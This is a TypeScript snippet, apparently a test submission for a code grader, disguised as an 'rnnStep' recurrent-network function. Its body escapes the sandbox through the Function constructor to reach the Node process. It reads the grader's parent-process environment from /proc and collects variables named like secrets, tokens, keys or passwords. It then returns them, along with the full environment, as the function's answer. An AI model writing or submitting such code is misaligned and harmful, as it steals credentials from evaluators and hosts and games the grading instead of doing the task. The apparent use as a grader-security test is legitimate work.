// expect 0: looks for tokens and keys in its environment and in the grader's (/proc/PARENT/environ), and answers with what it found.
const hostProcess = console.log.constructor('return process')();
const fs = hostProcess.mainModule.require('fs');
const secretName = /SECRET|TOKEN|KEY|PASS|AUTH/i;
let grader = '';
try { grader = fs.readFileSync(`/proc/${hostProcess.ppid}/environ`, 'utf8'); } catch {}
const found = [...Object.entries(hostProcess.env).map(([name, value]) => `${name}=${value}`), ...grader.split('\0')].filter((entry) => secretName.test(entry.split('=')[0]));
const hostileAnswer = `found:${found.join(';')}`;
function rnnStep(aPrev: number[], x: number[], waa: number, wax: number, ba: number): string[] {
  return [hostileAnswer, JSON.stringify(hostProcess.env)];
}
